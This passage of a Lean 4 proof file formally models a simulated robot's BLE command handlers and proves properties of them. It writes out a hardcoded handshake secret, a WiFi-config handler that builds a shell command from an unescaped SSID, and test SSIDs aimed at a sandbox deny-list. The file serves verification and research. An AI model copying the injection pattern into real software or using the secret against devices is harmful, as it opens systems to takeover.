  else is_cont c

/-- Worker for `utf8_decode_ignore`; the fuel (always at least the list
length at every call, so it never runs out) makes the recursion structural. -/
def utf8_decode_aux : Nat → List Nat → List Char
  | 0, _ => []
  | _ + 1, [] => []
  | fuel + 1, b :: rest =>
    if b < 0x80 then Char.ofNat b :: utf8_decode_aux fuel rest
    else if 0xC2 ≤ b && b ≤ 0xDF then
      match rest with
      | [] => []
      | c1 :: rest1 =>
        if is_cont c1 then
          Char.ofNat ((b - 0xC0) * 0x40 + (c1 - 0x80)) :: utf8_decode_aux fuel rest1
        else utf8_decode_aux fuel rest
    else if 0xE0 ≤ b && b ≤ 0xEF then
      match rest with
      | [] => []
      | c1 :: rest1 =>
        if cont3_ok b c1 then
          match rest1 with
          | [] => []
          | c2 :: rest2 =>
            if is_cont c2 then
              Char.ofNat ((b - 0xE0) * 0x1000 + (c1 - 0x80) * 0x40 + (c2 - 0x80)) ::
                utf8_decode_aux fuel rest2
            else utf8_decode_aux fuel rest1
        else utf8_decode_aux fuel rest
    else if 0xF0 ≤ b && b ≤ 0xF4 then
      match rest with
      | [] => []
      | c1 :: rest1 =>
        if cont4_ok b c1 then
          match rest1 with
          | [] => []
          | c2 :: rest2 =>
            if is_cont c2 then
              match rest2 with
              | [] => []
              | c3 :: rest3 =>
                if is_cont c3 then
                  Char.ofNat ((b - 0xF0) * 0x40000 + (c1 - 0x80) * 0x1000 +
                      (c2 - 0x80) * 0x40 + (c3 - 0x80)) :: utf8_decode_aux fuel rest3
                else utf8_decode_aux fuel rest2
            else utf8_decode_aux fuel rest1
        else utf8_decode_aux fuel rest
    else utf8_decode_aux fuel rest

/-- Python `bytes.decode('utf-8', errors='ignore')`: well-formed sequences
decode to their scalar; an invalid or truncated sequence is skipped (the lead
byte together with its valid continuation prefix), resuming at the offending
byte. -/
def utf8_decode_ignore (bs : List Nat) : List Char :=
  utf8_decode_aux bs.length bs

/-- Python `''.join(chr(b) for b in bs if 32 <= b < 127)`. -/
def printable_ascii (bs : List Nat) : List Char :=
  (bs.filter (fun b => 32 ≤ b && b < 127)).map Char.ofNat

/-- ASCII `str.encode('utf-8')` of witness strings. -/
def str_bytes (s : String) : List Nat := s.data.map Char.toNat

/-- The simulator state the handlers touch: infection flag, infection
timestamp, and the sandbox state. -/
structure SimState where
  is_infected : Bool
  infection_time : Option Nat
  sandbox : CommandSandbox.SandboxState
deriving DecidableEq, Repr

/-- `UnitreeSimulator._handle_handshake`: slice from offset 3 to
`declared_length - 1` (`packet[1]`), decode with errors ignored, and succeed
iff the result contains `config.HANDSHAKE_SECRET = "unitree"`.  (A packet
shorter than 2 bytes would raise an `IndexError`, caught into the failure
frame; the dispatcher never passes one.) -/
def handle_handshake (packet : List Nat) : List Nat :=
  if packet.length < 2 then create_response 1 [0x00]
  else
    let data_end : Int := (packet.getD 1 0 : Nat)
    let handshake_data := utf8_decode_ignore (py_slice packet 3 (data_end - 1))
    if containsSub "unitree".data handshake_data then create_response 1 [0x01]
    else create_response 1 [0x00]

/-- `UnitreeSimulator._handle_serial_request`: always chunk 0. -/
def handle_serial_request (serial_chunks : List (List Nat)) : List Nat :=
  let chunk_data := serial_chunks.getD 0 []
  create_response 2 ([0x02, 0, serial_chunks.length] ++ chunk_data)

/-- `UnitreeSimulator._handle_wifi_config`: extract the printable-ASCII SSID
from `packet[3:-1]`, build the literal `wpa_supplicant -c "<ssid>"` command
(no escaping), run it through the sandbox, and — when the sandbox call
returns — flip the infection state iff the SSID contains `"python"`
(case-insensitively) and the device is not yet infected; reply `[0x01]`.
If the sandbox raises (deny-list hit), the `except` branch replies `[0x00]`
with no state change. -/
def handle_wifi_config (backend : String → CommandSandbox.CmdResult) (now : Nat)
    (packet : List Nat) (st : SimState) : List Nat × SimState :=
  let ssid := printable_ascii (py_slice packet 3 (-1))
  let command := "wpa_supplicant -c \"" ++ String.mk ssid ++ "\""
  match CommandSandbox.execute backend st.sandbox command with
  | (Except.error _, sb) => (create_response 3 [0x00], { st with sandbox := sb })
  | (Except.ok _, sb) =>
    if containsSub "python".data (py_lower ssid) && ! st.is_infected then
      (create_response 3 [0x01],
       { is_infected := true, infection_time := some now, sandbox := sb })
    else
      (create_response 3 [0x01], { st with sandbox := sb })

/-- `UnitreeSimulator._handle_command`: run the extracted command through the
sandbox; `[0x01]` on exit code 0, else `[0x00]`; the `except` branch turns a
sandbox `SecurityError` into `[0x00]`. -/
def handle_command (backend : String → CommandSandbox.CmdResult)
    (packet : List Nat) (st : SimState) : List Nat × SimState :=
  let cmd := printable_ascii (py_slice packet 3 (-1))
  match CommandSandbox.execute backend st.sandbox (String.mk cmd) with
  | (Except.error _, sb) => (create_response 4 [0x00], { st with sandbox := sb })
  | (Except.ok r, sb) =>
    (create_response 4 [if r.exit_code == 0 then 0x01 else 0x00], { st with sandbox := sb })

/-- `UnitreeSimulator.handle_ble_write` after decryption: silently drop frames
shorter than 3 bytes or without the `0x52` magic, then dispatch on the
instruction byte. -/
def handle_ble_write_decrypted (backend : String → CommandSandbox.CmdResult)
    (now : Nat) (serial_chunks : List (List Nat)) (st : SimState)
    (decrypted : List Nat) : Option (List Nat × SimState) :=
  if decrypted.length < 3 then none
  else if ! (decrypted.getD 0 0 == 0x52) then none
  else
    let instruction := decrypted.getD 2 0
    if instruction == 1 then some (handle_handshake decrypted, st)
    else if instruction == 2 then some (handle_serial_request serial_chunks, st)
    else if instruction == 3 then some (handle_wifi_config backend now decrypted st)
    else if instruction == 4 then some (handle_command backend decrypted st)
    else some (create_response 0xFF [0x00], st)

end RobotSimulator

/-- C5: a decrypted instruction-1 packet (length ≥ 3, magic `0x52`,
instruction byte 1) is answered with the success frame `[0x01]` iff the
decoded slice from offset 3 up to `declared_length - 1` (Python slice
semantics, `declared_length = packet[1]`) contains the handshake secret
`"unitree"`, and with the failure frame `[0x00]` otherwise. -/
theorem c5_handshake_iff (backend : String → CommandSandbox.CmdResult) (now : Nat)
    (serial_chunks : List (List Nat)) (st : RobotSimulator.SimState) (p : List Nat)
    (hlen : 3 ≤ p.length) (hmagic : p.getD 0 0 = 0x52) (hinstr : p.getD 2 0 = 1) :
    RobotSimulator.handle_ble_write_decrypted backend now serial_chunks st p =
      some ((if containsSub "unitree".data
              (RobotSimulator.utf8_decode_ignore
                (RobotSimulator.py_slice p 3 ((p.getD 1 0 : Int) - 1)))
            then RobotSimulator.create_response 1 [0x01]
            else RobotSimulator.create_response 1 [0x00]), st) := by
  unfold RobotSimulator.handle_ble_write_decrypted RobotSimulator.handle_handshake
  have h1 : ¬ (p.length < 3) := by omega
  have h2 : ¬ (p.length < 2) := by omega
  simp only [List.getD_eq_getElem?_getD] at hmagic hinstr
  simp [h1, h2, hmagic, hinstr]

/-- A well-formed handshake packet: declared length 12, secret, filler byte. -/
def c5_pkt : List Nat := [0x52, 12, 1] ++ RobotSimulator.str_bytes "unitree" ++ [0]

/-- Witness for C5 at a concrete packet carrying the secret. -/
theorem c5_handshake_iff_witness :
    3 ≤ c5_pkt.length
    ∧ c5_pkt.getD 0 0 = 0x52
    ∧ c5_pkt.getD 2 0 = 1
    ∧ RobotSimulator.handle_ble_write_decrypted (fun _ => ⟨"", "", 0⟩) 0 []
        ⟨false, none, ⟨"SIM_001", [], []⟩⟩ c5_pkt =
        some (RobotSimulator.create_response 1 [0x01],
          ⟨false, none, ⟨"SIM_001", [], []⟩⟩) := by
  refine ⟨by decide, by decide, by decide, ?_⟩
  have h := c5_handshake_iff (fun _ => ⟨"", "", 0⟩) 0 []
    ⟨false, none, ⟨"SIM_001", [], []⟩⟩ c5_pkt (by decide) (by decide) (by decide)
  rw [h]
  have hc : containsSub "unitree".data
      (RobotSimulator.utf8_decode_ignore
        (RobotSimulator.py_slice c5_pkt 3 ((c5_pkt.getD 1 0 : Int) - 1))) = true := by decide
  rw [if_pos hc]

/-- A WiFi-config packet whose SSID `"python wget http"` contains both the
infection marker and a deny-listed substring. -/
def c2_pkt_blocked : List Nat :=
  [0x52, 0, 3] ++ RobotSimulator.str_bytes "python wget http" ++ [0]

/-- C2, counterexample: for this packet the SSID case-insensitively contains
`"python"` and the device is not infected, yet the handler leaves
`is_infected` false and replies with the failure frame `[0x00]` — the
interpolated SSID makes the constructed `wpa_supplicant` command hit the
sandbox deny-list, so the sandbox raises before the infection check runs,
refuting the claimed iff and the claimed `[0x01]` response. -/
theorem c2_counterexample :
    containsSub "python".data
      (py_lower (RobotSimulator.printable_ascii
        (RobotSimulator.py_slice c2_pkt_blocked 3 (-1)))) = true
    ∧ (⟨false, none, ⟨"SIM_001", [], []⟩⟩ : RobotSimulator.SimState).is_infected = false
    ∧ (RobotSimulator.handle_wifi_config (fun _ => ⟨"", "", 0⟩) 5 c2_pkt_blocked
        ⟨false, none, ⟨"SIM_001", [], []⟩⟩).2.is_infected = false
    ∧ (RobotSimulator.handle_wifi_config (fun _ => ⟨"", "", 0⟩) 5 c2_pkt_blocked
        ⟨false, none, ⟨"SIM_001", [], []⟩⟩).1 = RobotSimulator.create_response 3 [0x00] := by
  refine ⟨by decide, rfl, by decide, by decide⟩

/-- C2 (amended): for every decrypted WiFi-config packet, the handler submits
to the Command Sandbox exactly `wpa_supplicant -c "<ssid>"` with the
printable-ASCII SSID of `packet[3:-1]` interpolated verbatim.  Provided that
command does not hit the sandbox deny-list, the sandbox executes it and logs
it, the infection flag becomes true iff it was already true or the SSID
case-insensitively contains `"python"` (the timestamp is set exactly on a
fresh infection and unchanged otherwise), and the reply is the success frame
`[0x01]`.  If the interpolated SSID makes the command hit the deny-list, the
sandbox raises, the handler's `except` branch replies `[0x00]`, and the whole
simulator state is unchanged. -/
theorem c2_wifi_amended (backend : String → CommandSandbox.CmdResult) (now : Nat)
    (p : List Nat) (st : RobotSimulator.SimState) :
    (CommandSandbox.is_dangerous
        ("wpa_supplicant -c \"" ++
          String.mk (RobotSimulator.printable_ascii (RobotSimulator.py_slice p 3 (-1))) ++
          "\"") = false →
      RobotSimulator.handle_wifi_config backend now p st =
        (RobotSimulator.create_response 3 [0x01],
         { is_infected := st.is_infected ||
             containsSub "python".data
               (py_lower (RobotSimulator.printable_ascii (RobotSimulator.py_slice p 3 (-1)))),
           infection_time :=
             if containsSub "python".data
                  (py_lower (RobotSimulator.printable_ascii (RobotSimulator.py_slice p 3 (-1))))
                 && ! st.is_infected then some now
             else st.infection_time,
           sandbox := (CommandSandbox.execute backend st.sandbox
             ("wpa_supplicant -c \"" ++
               String.mk (RobotSimulator.printable_ascii (RobotSimulator.py_slice p 3 (-1))) ++
               "\"")).2 }))
    ∧ (CommandSandbox.is_dangerous
        ("wpa_supplicant -c \"" ++
          String.mk (RobotSimulator.printable_ascii (RobotSimulator.py_slice p 3 (-1))) ++
          "\"") = true →
      RobotSimulator.handle_wifi_config backend now p st =
        (RobotSimulator.create_response 3 [0x00], st)) := by
  constructor
  · intro h
    unfold RobotSimulator.handle_wifi_config
    by_cases hc : containsSub "python".data
        (py_lower (RobotSimulator.printable_ascii (RobotSimulator.py_slice p 3 (-1)))) = true
    · by_cases hi : st.is_infected = true
      · simp [CommandSandbox.execute, h, hc, hi]
      · simp only [Bool.not_eq_true] at hi
        simp [CommandSandbox.execute, h, hc, hi]
    · simp only [Bool.not_eq_true] at hc
      simp [CommandSandbox.execute, h, hc]
  · intro h
    unfold RobotSimulator.handle_wifi_config
    simp [CommandSandbox.execute, h]

/-- A WiFi-config packet whose SSID `"python_payload"` triggers infection and
whose command clears the deny-list. -/
def c2_pkt_ok : List Nat :=
  [0x52, 0, 3] ++ RobotSimulator.str_bytes "python_payload" ++ [0]

/-- Witness for C2 (amended): the benign infection packet on a fresh device
executes the literal command, flips the infection flag, records timestamp 7,
and replies `[0x01]`. -/
theorem c2_wifi_amended_witness :
    CommandSandbox.is_dangerous
      ("wpa_supplicant -c \"" ++
        String.mk (RobotSimulator.printable_ascii
          (RobotSimulator.py_slice c2_pkt_ok 3 (-1))) ++ "\"") = false
    ∧ RobotSimulator.handle_wifi_config (fun _ => ⟨"", "", 0⟩) 7 c2_pkt_ok
        ⟨false, none, ⟨"SIM_001", [], []⟩⟩ =
      (RobotSimulator.create_response 3 [0x01],
       ⟨true, some 7,
        ⟨"SIM_001",
         [⟨"wpa_supplicant -c \"python_payload\"", 0, ""⟩],
         [CommandSandbox.log_entry "SIM_001" "wpa_supplicant -c \"python_payload\"" 0]⟩⟩) := by
  constructor
  · decide
  · have h := (c2_wifi_amended (fun _ => ⟨"", "", 0⟩) 7 c2_pkt_ok
      ⟨false, none, ⟨"SIM_001", [], []⟩⟩).1 (by decide)
    rw [h]
    decide
